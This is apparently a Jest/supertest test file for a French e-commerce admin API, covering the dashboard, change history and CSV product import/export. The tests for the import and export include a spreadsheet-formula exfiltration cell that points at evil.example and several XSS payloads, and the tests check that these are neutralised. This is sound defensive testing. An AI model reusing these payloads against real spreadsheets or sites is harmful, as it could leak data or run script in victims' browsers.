import { NestFastifyApplication } from '@nestjs/platform-fastify';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { ADMIN, createTestApp, dataSource, loginToken, proToken } from './utils';

/** Dashboard, catalogue import and change history (issue: back office for a working day). */
const ROUTES: [method: 'get' | 'post', path: string][] = [
  ['get', '/api/admin/dashboard'],
  ['get', '/api/admin/history'],
  ['get', '/api/admin/products/export'],
  ['post', '/api/admin/products/import'],
  ['post', '/api/admin/products/import?dryRun=true'],
];

const HEADER = 'reference;name;brand;type;status;price_public;price_discounted;stock_quantity;supplier_id;description;specifications';
const csv = (...lines: string[]) => Buffer.from([HEADER, ...lines].join('\r\n'), 'utf8');

describe('Back office for a working day', () => {
  let app: NestFastifyApplication;
  let http: ReturnType<typeof request>;
  let db: DataSource;
  let admin: string;
  let adminId: number;
  const tag = `WD${process.pid}`;

  beforeAll(async () => {
    process.env.PRODUCT_IMPORT_MAX_MB = '1';
    app = await createTestApp();
    http = request(app.getHttpServer());
    db = dataSource(app);
    admin = await loginToken(app, ADMIN.email, ADMIN.password);
    [{ id: adminId }] = await db.query(`SELECT id FROM users WHERE email = $1`, [ADMIN.email]);
  });
  afterAll(async () => {
    // Hand-made quotes would be picked up by other suites' sweepers: leave none behind.
    await db.query(`DELETE FROM orders WHERE number LIKE $1`, [`${tag}-%`]);
    await db.query(`DELETE FROM quotes WHERE email LIKE $1`, [`${tag.toLowerCase()}-%`]);
    await app.close();
  });

  const get = (url: string) => http.get(url).set('Authorization', `Bearer ${admin}`);
  const history = async (resource: string, recordId: number) =>
    (await get(`/api/admin/history?filter=${encodeURIComponent(JSON.stringify({ resource, record_id: recordId }))}`).expect(200)).body;
  const upload = (body: Buffer, name = 'prix.csv', dryRun = false) =>
    http
      .post(`/api/admin/products/import${dryRun ? '?dryRun=true' : ''}`)
      .set('Authorization', `Bearer ${admin}`)
      .attach('file', body, { filename: name, contentType: name.endsWith('.csv') ? 'text/csv' : 'application/octet-stream' });

  describe('who may call it', () => {
    let pro: string;
    beforeAll(async () => {
      pro = await proToken(app);
    });

    it.each(ROUTES)('%s %s: 401 anonymous, 403 pro', async (method, path) => {
      const anonymous = await http[method](path).expect(401);
      expect(anonymous.body.message).toBe('Authentification requise');
      const forbidden = await http[method](path).set('Authorization', `Bearer ${pro}`).expect(403);
      expect(forbidden.body.message).toBe('Accès refusé');
    });
  });

  describe('GET /api/admin/dashboard', () => {
    it('counts quote requests per day and status over 30 days (Paris days, spam and older ones left out)', async () => {
      const before = (await get('/api/admin/dashboard').expect(200)).body;
      expect(before.quotes_per_day).toHaveLength(30);
      const days: string[] = before.quotes_per_day.map((d: { day: string }) => d.day);
      const [{ today }] = await db.query(`SELECT to_char((now() AT TIME ZONE 'Europe/Paris')::date, 'YYYY-MM-DD') AS today`);
      expect(days[29]).toBe(today);
      // [days ago, Paris local time, status, spam]
      const made: [number, string, string, boolean][] = [
        [0, '00:10', 'reçu', false],
        [0, '09:00', 'échec', false],
        [2, '23:30', 'transmis', false], // 22:30 UTC in winter: still that Paris day
        [2, '12:00', 'transmis', false],
        [2, '12:00', 'traité', false],
        [29, '08:00', 'stocké', false],
        [2, '12:00', 'transmis', true], // honeypot: never counted
        [30, '12:00', 'reçu', false], // 31st day back: out of the chart
      ];
      let n = 0;
      for (const [ago, time, status, spam] of made) {
        n += 1;
        await db.query(
          `INSERT INTO quotes (client_type, name, email, phone, subject, message, status, is_spam, created_at, updated_at)
           VALUES ('particulier', 'Test', $1, '0600000000', 'Tableau de bord', 'Bonjour', $2, $3,
                   (((now() AT TIME ZONE 'Europe/Paris')::date - $4::int) + $5::time) AT TIME ZONE 'Europe/Paris', now())`,
          [`${tag.toLowerCase()}-${n}@example.fr`, status, spam, ago, time],
        );
      }
      const after = (await get('/api/admin/dashboard').expect(200)).body;
      const delta = (ago: number, status: string) => after.quotes_per_day[29 - ago][status] - before.quotes_per_day[29 - ago][status];
      expect([delta(0, 'reçu'), delta(0, 'échec'), delta(0, 'total')]).toEqual([1, 1, 2]);
      expect([delta(2, 'transmis'), delta(2, 'traité'), delta(2, 'total')]).toEqual([2, 1, 3]);
      expect([delta(29, 'stocké'), delta(29, 'total')]).toEqual([1, 1]);
      const otherDays = after.quotes_per_day.filter((_: unknown, i: number) => ![29, 27, 0].includes(i));
      expect(otherDays).toEqual(before.quotes_per_day.filter((_: unknown, i: number) => ![29, 27, 0].includes(i)));
    });

    it('lists deliveries needing action: failed quotes and quotes waiting past the sweeper delay, with the queue counts', async () => {
      const email = `${tag.toLowerCase()}-stuck@example.fr`;
      const [{ id: stuck }] = await db.query(
        `INSERT INTO quotes (client_type, name, email, phone, subject, message, status, created_at, updated_at)
         VALUES ('particulier', 'Bloqué', $1, '0600000000', 'En attente', 'Bonjour', 'reçu', now() - interval '2 hours', now() - interval '2 hours')
         RETURNING id`,
        [email],
      );
      const { body } = await get('/api/admin/dashboard').expect(200);
      const [{ failed, waiting }] = await db.query(
        `SELECT count(*) FILTER (WHERE status = 'échec')::int AS failed,
                count(*) FILTER (WHERE status = 'reçu' AND updated_at < now() - interval '60 seconds')::int AS waiting
         FROM quotes WHERE NOT is_spam`,
      );
      expect(body.deliveries).toMatchObject({
        failed_count: failed,
        waiting_count: waiting,
        waiting_after_seconds: 60,
        resend_available: false,
      });
      expect(body.deliveries.waiting.map((q: { id: number }) => q.id)).toContain(stuck);
      expect(body.deliveries.failed.every((q: { status: string }) => q.status === 'échec')).toBe(true);
      // Our quote has no job, so it counts as stuck: on the dashboard, never in the public health answer.
      expect(body.deliveries.queue).toMatchObject({
        status: 'down',
        jobs: expect.objectContaining({ waiting: expect.any(Number) }),
        quotes_pending: expect.any(Number),
      });
      expect(body.deliveries.queue.stuck_ids).toContain(stuck);
      const health = await http.get('/api/health').expect(200);
      expect(JSON.stringify(health.body)).not.toMatch(/quote|stuck/);
    });

    it('shows the catalogue at a glance: published / draft, out of stock and at 5 units or fewer, without image or datasheet', async () => {
      const before = (await get('/api/admin/dashboard').expect(200)).body.catalogue;
      const stocks = [0, 3, 5, 6];
      for (const [i, stock] of stocks.entries()) {
        await http
          .post('/api/admin/products')
          .set('Authorization', `Bearer ${admin}`)
          .send({
            name: `Stock ${stock}`,
            reference: `${tag}-STOCK-${i}`,
            brand: 'Test',
            type: 'BMS',
            price_public: 10,
            stock_quantity: stock,
            status: i === 0 ? 'publié' : 'brouillon',
            ...(i === 3
              ? { image_url: '/uploads/x.webp', documentation: [{ name: 'Fiche', url: '/uploads/x.pdf', fileName: 'x.pdf' }] }
              : {}),
          })
          .expect(201);
      }
      const { catalogue } = (await get('/api/admin/dashboard').expect(200)).body;
      const delta = (key: string) => catalogue[key] - before[key];
      expect({
        published: delta('published'),
        draft: delta('draft'),
        out: delta('out_of_stock'),
        low: delta('low_stock'),
        image: delta('without_image'),
        sheet: delta('without_datasheet'),
      }).toEqual({
        published: 1,
        draft: 3,
        out: 1,
        low: 2,
        image: 3,
        sheet: 3,
      });
      expect(catalogue.low_stock_units).toBe(5);
      const [{ low }] = await db.query(`SELECT count(*) FILTER (WHERE stock_quantity BETWEEN 1 AND 5)::int AS low FROM products`);
      expect(catalogue.low_stock).toBe(low);
      expect(catalogue.low_stock_products.every((p: { stock_quantity: number }) => p.stock_quantity <= 5)).toBe(true);
    });

    it('counts orders by status, their value HT per Paris month over 12 months, and the requests → offers → orders funnel', async () => {
      const before = (await get('/api/admin/dashboard').expect(200)).body.orders;
      expect(before.per_month).toHaveLength(12);
      const [{ thisMonth }] = await db.query(`SELECT to_char(now() AT TIME ZONE 'Europe/Paris', 'YYYY-MM') AS "thisMonth"`);
      expect(before.per_month[11].month).toBe(thisMonth);
      let n = 0;
      /** A request made `monthsAgo` months back (Paris), with a sent offer and an order when asked. */
      const made = async (monthsAgo: number, offer: 'none' | 'sent' | 'ordered', order?: { status: string; total: number }) => {
        n += 1;
        const at = (param: number) =>
          `(date_trunc('month', now() AT TIME ZONE 'Europe/Paris') - $${param}::int * interval '1 month' + interval '1 day 10 hours') AT TIME ZONE 'Europe/Paris'`;
        const [{ id: quoteId }] = await db.query(
          `INSERT INTO quotes (client_type, name, email, phone, subject, message, status, created_at, updated_at)
           VALUES ('entreprise', 'Funnel', $1, '0600000000', 'Entonnoir', 'Bonjour', 'traité', ${at(2)}, now()) RETURNING id`,
          [`${tag.toLowerCase()}-funnel-${n}@example.fr`, monthsAgo],
        );
        if (offer === 'none') return;
        const [{ id: offerId }] = await db.query(
          `INSERT INTO offers (quote_id, version, status, number, valid_until, sent_at, total_ht)
           VALUES ($1, 1, $2, $3, current_date + 30, ${at(5)}, $4) RETURNING id`,
          [quoteId, offer === 'sent' ? 'envoyée' : 'acceptée', `${tag}-D${n}`, order?.total ?? 0, monthsAgo],
        );
        if (!order) return;
        await db.query(
          `INSERT INTO orders (number, offer_id, quote_id, buyer_name, buyer_email, lines, total_ht, status, carrier, tracking_number, created_at)
           VALUES ($1, $2, $3, 'Funnel', 'funnel@example.fr', '[]', $4, $5, 'DHL', 'X1', ${at(6)})`,
          [`${tag}-C${n}`, offerId, quoteId, order.total, order.status, monthsAgo],
        );
      };
      await made(0, 'none');
      await made(0, 'sent');
      await made(0, 'ordered', { status: 'confirmée', total: 1000.5 });
      await made(0, 'ordered', { status: 'annulée', total: 999 }); // cancelled: in the funnel, not in the value
      await made(2, 'ordered', { status: 'livrée', total: 250.25 });
      await made(12, 'ordered', { status: 'expédiée', total: 80 }); // 13th month back: only in the counts by status

      const after = (await get('/api/admin/dashboard').expect(200)).body.orders;
      const status = (s: string) => after.by_status[s] - before.by_status[s];
      expect([status('confirmée'), status('annulée'), status('livrée'), status('expédiée'), status('en préparation')]).toEqual([
        1, 1, 1, 1, 0,
      ]);
      const month = (i: number) => [
        after.per_month[i].count - before.per_month[i].count,
        Math.round((after.per_month[i].value_ht - before.per_month[i].value_ht) * 100) / 100,
      ];
      expect(month(11)).toEqual([1, 1000.5]);
      expect(month(9)).toEqual([1, 250.25]);
      expect(after.per_month.filter((_: unknown, i: number) => i !== 11 && i !== 9)).toEqual(
        before.per_month.filter((_: unknown, i: number) => i !== 11 && i !== 9),
      );
      const c = after.conversion;
      expect({
        requests: c.requests - before.conversion.requests,
        offers: c.offers_sent - before.conversion.offers_sent,
        orders: c.orders - before.conversion.orders,
      }).toEqual({ requests: 5, offers: 4, orders: 3 });
      expect(c.months).toBe(12);
      expect(c.offer_rate).toBeCloseTo(c.offers_sent / c.requests, 3);
      expect(c.order_rate).toBeCloseTo(c.orders / c.offers_sent, 3);
    });

    it('shows the latest reviews with their rating, newest first', async () => {
      const { body } = await get('/api/admin/dashboard').expect(200);
      const [latest] = await db.query(`SELECT id, rating FROM reviews ORDER BY created_at DESC, id DESC LIMIT 1`);
      expect(body.latest_reviews[0]).toMatchObject({ id: latest.id, rating: latest.rating, product_name: expect.any(String) });
    });
  });

  describe('change history', () => {
    it('records product writes with who, when, the record and the fields before → after', async () => {
      const created = (
        await http
          .post('/api/admin/products')
          .set('Authorization', `Bearer ${admin}`)
          .send({ name: 'Historique', reference: `${tag}-HIST`, brand: 'Test', type: 'BMS', price_public: 100, stock_quantity: 2 })
          .expect(201)
      ).body;
      await http
        .put(`/api/admin/products/${created.id}`)
        .set('Authorization', `Bearer ${admin}`)
        .send({ price_public: 120, stock_quantity: 2 })
        .expect(200);
      await http
        .patch(`/api/admin/products/${created.id}/status`)
        .set('Authorization', `Bearer ${admin}`)
        .send({ status: 'publié' })
        .expect(200);
      // A refused write leaves no entry (same transaction): a reference already taken.
      await http
        .put(`/api/admin/products/${created.id}`)
        .set('Authorization', `Bearer ${admin}`)
        .send({ reference: `${tag}-STOCK-0`, name: 'Jamais' })
        .expect(409);
      const copy = (await http.post(`/api/admin/products/${created.id}/duplicate`).set('Authorization', `Bearer ${admin}`).expect(201))
        .body;
      await http.delete(`/api/admin/products/${copy.id}`).set('Authorization', `Bearer ${admin}`).expect(200);

      const entries = await history('products', created.id);
      expect(entries.map((e: { action: string }) => e.action)).toEqual(['update', 'update', 'create']);
      const [status, price, creation] = entries;
      expect(price).toMatchObject({
        actor_id: adminId,
        actor_email: ADMIN.email,
        resource: 'products',
        record_id: created.id,
        cause: null,
      });
      expect(price.changes).toEqual([{ field: 'price_public', before: 100, after: 120 }]);
      expect(status.changes).toEqual([{ field: 'status', before: 'brouillon', after: 'publié' }]);
      expect(creation.changes).toEqual(expect.arrayContaining([{ field: 'name', before: null, after: 'Historique' }]));
      expect(Date.now() - new Date(price.at).getTime()).toBeLessThan(60_000);
      const copyEntries = await history('products', copy.id);
      expect(copyEntries.map((e: { action: string }) => e.action)).toEqual(['delete', 'create']);
      expect(copyEntries[0].changes).toEqual(expect.arrayContaining([{ field: 'status', before: 'brouillon', after: null }]));
    });

    it('records supplier, quote status, review and account writes', async () => {
      const supplier = (
        await http
          .post('/api/admin/suppliers')
          .set('Authorization', `Bearer ${admin}`)
          .send({ name: `${tag} Fournisseur` })
          .expect(201)
      ).body;
      await http
        .put(`/api/admin/suppliers/${supplier.id}`)
        .set('Authorization', `Bearer ${admin}`)
        .send({ contact_email: 'achats@example.fr' })
        .expect(200);
      await http.delete(`/api/admin/suppliers/${supplier.id}`).set('Authorization', `Bearer ${admin}`).expect(200);
      const supplierEntries = await history('suppliers', supplier.id);
      expect(supplierEntries.map((e: { action: string }) => e.action)).toEqual(['delete', 'update', 'create']);
      expect(supplierEntries[1].changes).toEqual([{ field: 'contact_email', before: null, after: 'achats@example.fr' }]);

      const [{ id: quoteId }] = await db.query(
        `INSERT INTO quotes (client_type, name, email, phone, subject, message, status)
         VALUES ('particulier', 'Histo', $1, '0600000000', 'Statut', 'Bonjour', 'échec') RETURNING id`,
        [`${tag.toLowerCase()}-histo@example.fr`],
      );
      // No form service here: resend is refused and leaves no entry; marking handled does.
      await http.post(`/api/admin/quotes/${quoteId}/resend`).set('Authorization', `Bearer ${admin}`).expect(409);
      await http.post(`/api/admin/quotes/${quoteId}/handled`).set('Authorization', `Bearer ${admin}`).expect(200);
      const [handled] = await history('quotes', quoteId);
      expect(handled.changes).toEqual(expect.arrayContaining([{ field: 'status', before: 'échec', after: 'traité' }]));
      expect(await history('quotes', quoteId)).toHaveLength(1);

      const [review] = await db.query(`SELECT id, rating FROM reviews ORDER BY id DESC LIMIT 1`);
      await http.delete(`/api/admin/reviews/${review.id}`).set('Authorization', `Bearer ${admin}`).expect(200);
      const [removed] = await history('reviews', review.id);
      expect(removed.action).toBe('delete');
      expect(removed.changes).toEqual(expect.arrayContaining([{ field: 'rating', before: review.rating, after: null }]));

      await proToken(app, `${tag.toLowerCase()}-account@example.fr`);
      const [{ id: userId }] = await db.query(`SELECT id FROM users WHERE email = $1`, [`${tag.toLowerCase()}-account@example.fr`]);
      await http.put(`/api/admin/users/${userId}`).set('Authorization', `Bearer ${admin}`).send({ disabled: true }).expect(200);
      const [account] = await history('users', userId);
      expect(account.changes).toEqual(expect.arrayContaining([{ field: 'disabled', before: false, after: true }]));
      expect(account.changes.map((c: { field: string }) => c.field)).not.toContain('password_hash');
    });

    it('lists in ra-data-simple-rest form: Content-Range, sort, range, filter checked', async () => {
      const res = await get('/api/admin/history?sort=["id","DESC"]&range=[0,1]&filter={"resource":"products"}').expect(200);
      expect(res.headers['content-range']).toMatch(/^history 0-1\/\d+$/);
      expect(res.body).toHaveLength(2);
      await get('/api/admin/history?sort=["password","ASC"]').expect(400);
    });
  });

  describe('POST /api/admin/products/import', () => {
    const existingRef = `${tag}-STOCK-1`;

    it('dry run: create, update with the changing fields, unchanged and error rows (line, column, French message), nothing written', async () => {
      const [{ count: before }] = await db.query(`SELECT count(*)::int AS count FROM products`);
      const file = csv(
        `${tag}-NEW-1;Batterie importée;Pylontech;Batterie Lithium;publié;1 299,90;;12;;"<p>Texte <strong>gras</strong></p><script>alert(1)</script>";"{""Tension"":""48 V""}"`,
        `${existingRef};Stock 3;Test;BMS;brouillon;15;;3;;;`,
        `${tag}-STOCK-2;Stock 5;Test;BMS;brouillon;10;;5;;;`,
        `${tag}-BAD;Sans prix;Test;Inconnu;brouillon;abc;;-1;;;{pas du json`,
        `${tag}-NEW-1;Doublon;Pylontech;Batterie Lithium;;10;;1;;;`,
      );
      const { body } = await upload(file, 'prix.csv', true).expect(200);
      expect(body).toMatchObject({ dry_run: true, import_id: null, total: 5, created: 1, updated: 1, unchanged: 1, errors: 2 });
      const [create, update, unchanged, bad, duplicate] = body.rows;
      expect(create).toMatchObject({ line: 2, action: 'create', reference: `${tag}-NEW-1` });
      expect(create.changes).toEqual(
        expect.arrayContaining([
          { field: 'price_public', before: null, after: 1299.9 },
          { field: 'description', before: null, after: '<p>Texte <strong>gras</strong></p>' },
        ]),
      );
      expect(update).toMatchObject({ line: 3, action: 'update', changes: [{ field: 'price_public', before: 10, after: 15 }] });
      expect(unchanged).toMatchObject({ line: 4, action: 'unchanged', changes: [] });
      expect(bad.action).toBe('error');
      const columns = Object.fromEntries(bad.errors.map((e: { column: string; message: string }) => [e.column, e.message]));
      expect(columns).toMatchObject({
        type: expect.stringContaining('Le type doit être'),
        specifications: 'JSON invalide',
      });
      // The form's own rules and messages (ProductInputDto) for the figures.
      expect(Object.keys(columns)).toEqual(expect.arrayContaining(['price_public', 'stock_quantity']));
      expect(duplicate.errors).toEqual([{ column: 'reference', message: 'Référence déjà présente à la ligne 2 du fichier' }]);
      const [{ count: after }] = await db.query(`SELECT count(*)::int AS count FROM products`);
      expect(after).toBe(before);
      const [{ price_public }] = await db.query(`SELECT price_public FROM products WHERE reference = $1`, [existingRef]);
      expect(Number(price_public)).toBe(10);
    });

    it('real run with an error row: 400 with the line and column, nothing written (all or nothing)', async () => {
      const file = csv(`${tag}-ATOMIC;Atomique;Test;BMS;;10;;1;;;`, `${existingRef};Stock 3;Test;BMS;brouillon;-5;;3;;;`);
      const { body } = await upload(file).expect(400);
      expect(body.message).toBe('Import refusé : 1 ligne(s) en erreur, rien n’a été enregistré');
      expect(Object.keys(body.fields)).toEqual(['ligne 3.price_public']);
      expect(await db.query(`SELECT id FROM products WHERE reference = $1`, [`${tag}-ATOMIC`])).toEqual([]);
    });

    it('real run: creates and updates in one go, sanitised like the form, one history entry per row with the import as cause', async () => {
      const file = csv(
        `${tag}-NEW-1;Batterie importée;Pylontech;Batterie Lithium;publié;1 299,90;;12;;"<p>Texte</p><script>alert(1)</script>";"{""Tension"":""48 V""}"`,
        `${existingRef};Stock 3;Test;BMS;brouillon;15;;3;;;`,
        `${tag}-STOCK-2;Stock 5;Test;BMS;brouillon;10;;5;;;`,
      );
      const { body } = await upload(file, 'tarifs-fournisseur.csv').expect(200);
      expect(body).toMatchObject({ dry_run: false, created: 1, updated: 1, unchanged: 1, errors: 0, import_id: expect.any(String) });
      const [created] = await db.query(
        `SELECT id, price_public, description, specifications, status, category FROM products WHERE reference = $1`,
        [`${tag}-NEW-1`],
      );
      expect(created).toMatchObject({
        price_public: '1299.90',
        description: '<p>Texte</p>',
        specifications: { Tension: '48 V' },
        status: 'publié',
        category: 'batteries',
      });
      expect(body.rows[0].id).toBe(created.id);
      const [updated] = await db.query(`SELECT id, price_public FROM products WHERE reference = $1`, [existingRef]);
      expect(Number(updated.price_public)).toBe(15);
      const byCause = (
        await get(`/api/admin/history?filter=${encodeURIComponent(JSON.stringify({ cause_id: body.import_id }))}`).expect(200)
      ).body;
      expect(byCause).toHaveLength(2);
      for (const entry of byCause) {
        expect(entry).toMatchObject({
          actor_email: ADMIN.email,
          cause: { kind: 'import', id: body.import_id, file: 'tarifs-fournisseur.csv' },
        });
      }
      const [updateEntry] = await history('products', updated.id);
      expect(updateEntry.changes).toEqual([{ field: 'price_public', before: 10, after: 15 }]);
      // The catalogue answers with the new product at once (cache invalidated).
      await http.get(`/api/products/${created.id}`).expect(200);
    });

    it('the export is the template: exported rows import back unchanged', async () => {
      const filter = encodeURIComponent(JSON.stringify({ q: `${tag}-STOCK` }));
      const res = await get(`/api/admin/products/export?filter=${filter}`).expect(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      const text: string = res.text;
      expect(text.startsWith('\ufeffreference;name;brand;type;status;price_public')).toBe(true);
      const { body } = await upload(Buffer.from(text, 'utf8'), 'produits.csv', true).expect(200);
      expect(body).toMatchObject({ total: 4, unchanged: 4, errors: 0 });
    });

    it('the export writes a cell a spreadsheet would run as a formula behind an apostrophe, which the import takes off again', async () => {
      const reference = `${tag}-FORMULA`;
      const hostile = {
        name: '=HYPERLINK("https://evil.example/?d="&A1,"Fiche")',
        brand: '@Marque',
        battery_type: '-LFP',
        storage_capacity: '+5kWh',
        // A text that starts with an apostrophe keeps it, even before a formula sign.
        max_output_power: "'=2000W",
      };
      await http
        .post('/api/admin/products')
        .set('Authorization', `Bearer ${admin}`)
        .send({ reference, type: 'BMS', price_public: 10, stock_quantity: 1, description: "'Cité' en tête", ...hostile })
        .expect(201);
      const filter = encodeURIComponent(JSON.stringify({ q: reference }));
      const text: string = (await get(`/api/admin/products/export?filter=${filter}`).expect(200)).text;
      const [header, line] = text.replace(/^\ufeff/, '').split('\r\n');
      const cells = Object.fromEntries(header.split(';').map((name, i) => [name, line.split(';')[i]]));
      expect(cells).toMatchObject({
        name: `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Fiche"")"`,
        brand: "'@Marque",
        battery_type: "'-LFP",
        storage_capacity: "'+5kWh",
        max_output_power: "''=2000W",
        description: "''Cité' en tête",
        price_public: '10',
      });
      // Read back exactly: the row is unchanged, and as a new product it would carry the same texts.
      const again = await upload(Buffer.from(text, 'utf8'), 'produits.csv', true).expect(200);
      expect(again.body).toMatchObject({ total: 1, unchanged: 1, errors: 0 });
      const asNew = await upload(Buffer.from(text.replace(reference, `${reference}-COPY`), 'utf8'), 'produits.csv', true).expect(200);
      expect(asNew.body.rows[0].action).toBe('create');
      expect(asNew.body.rows[0].changes).toEqual(
        expect.arrayContaining(Object.entries(hostile).map(([field, after]) => ({ field, before: null, after }))),
      );
    });

    it('a cell too deep, with a NUL or a lone surrogate is a row error naming its column, in a dry run and a real one', async () => {
      const deep = '['.repeat(5000) + ']'.repeat(5000);
      const file = Buffer.from(
        [
          'reference;name;brand;type;price_public;specifications;documentation',
          `${tag}-DEEP-1;Profond;Test;BMS;10;${deep};`,
          `${tag}-DEEP-2;Profond;Test;BMS;10;;${deep}`,
          `${tag}-NUL;Nul;Test;BMS;10;"{""Tension"":""48\\u0000V""}";`,
          `${tag}-UTF;Surrogate;Test;BMS;10;"{""\\ud800"":""x""}";`,
          `${tag}-NUL-DOC;Nul;Test;BMS;10;;"[{""name"":""Fiche"",""url"":""/uploads/x.pdf"",""fileName"":""x\\u0000.pdf""}]"`,
        ].join('\r\n'),
        'utf8',
      );
      const dry = await upload(file, 'profond.csv', true).expect(200);
      expect(dry.body).toMatchObject({ total: 5, errors: 5 });
      expect(dry.body.rows.map((r: { errors: unknown }) => r.errors)).toEqual([
        [{ column: 'specifications', message: 'imbrication trop profonde (32 niveaux au plus)' }],
        [{ column: 'documentation', message: 'imbrication trop profonde (32 niveaux au plus)' }],
        [{ column: 'specifications', message: 'caractère nul interdit' }],
        [{ column: 'specifications', message: 'texte Unicode invalide (caractère isolé ou mal encodé)' }],
        [{ column: 'documentation', message: 'caractère nul interdit' }],
      ]);
      const real = await upload(file, 'profond.csv').expect(400);
      expect(real.body.fields).toEqual({
        'ligne 2.specifications': 'imbrication trop profonde (32 niveaux au plus)',
        'ligne 3.documentation': 'imbrication trop profonde (32 niveaux au plus)',
        'ligne 4.specifications': 'caractère nul interdit',
        'ligne 5.specifications': 'texte Unicode invalide (caractère isolé ou mal encodé)',
        'ligne 6.documentation': 'caractère nul interdit',
      });
      // Alone on a real run too (no other row's error to stop it first): a row error, never a 500.
      const nul = Buffer.from(
        ['reference;name;brand;type;price_public;specifications', `${tag}-NUL;Nul;Test;BMS;10;"{""Tension"":""48\\u0000V""}"`].join('\r\n'),
      );
      const alone = await upload(nul, 'nul.csv').expect(400);
      expect(alone.body.fields).toEqual({ 'ligne 2.specifications': 'caractère nul interdit' });
      expect(await db.query(`SELECT id FROM products WHERE reference LIKE $1`, [`${tag}-DEEP%`])).toEqual([]);
    });

    it('a link in a cell is checked like the form: javascript:, data: and //host are row errors', async () => {
      const file = Buffer.from(
        [
          'reference;name;brand;type;price_public;image_url;image_card_url;documentation',
          `${tag}-URL-1;Lien;Test;BMS;10;javascript:alert(1);;`,
          `${tag}-URL-2;Lien;Test;BMS;10;;//evil.example/x.png;`,
          `${tag}-URL-3;Lien;Test;BMS;10;;;"[{""name"":""Fiche"",""url"":""data:text/html,<script>alert(1)</script>"",""fileName"":""x.pdf""}]"`,
          `${tag}-URL-4;Lien;Test;BMS;10;/uploads/x.png;https://cdn.example/x.png;"[{""name"":""Fiche"",""url"":""/uploads/x.pdf"",""fileName"":""x.pdf""}]"`,
        ].join('\r\n'),
      );
      const { body } = await upload(file, 'liens.csv', true).expect(200);
      expect(body.rows.map((r: { errors: { column: string }[] }) => r.errors.map((e) => e.column))).toEqual([
        ['image_url'],
        ['image_card_url'],
        ['documentation.0.url'],
        [],
      ]);
    });

    it('refuses another file type (415), a missing file (400) and a file over the size cap (413), in French', async () => {
      const xlsx = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100)]);
      const excel = await upload(xlsx, 'prix.xlsx').expect(415);
      expect(excel.body.message).toBe('Les classeurs Excel ne sont pas pris en charge : enregistrez la feuille au format CSV');
      const png = await upload(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]), 'image.png').expect(415);
      expect(png.body.message).toMatch(/^Format non pris en charge/);
      const none = await http.post('/api/admin/products/import').set('Authorization', `Bearer ${admin}`).expect(400);
      expect(none.body.message).toBe('Veuillez joindre un fichier CSV (champ « file »)');
      const big = await upload(Buffer.alloc(1024 * 1024 + 10, 'a'), 'gros.csv').expect(413);
      expect(big.body.message).toBe('Le fichier dépasse la taille maximale autorisée (1 Mo)');
      const noReference = await upload(Buffer.from('name;brand\nA;B\n'), 'x.csv').expect(400);
      expect(noReference.body.message).toMatch(/colonne « reference »/);
    });
  });
});
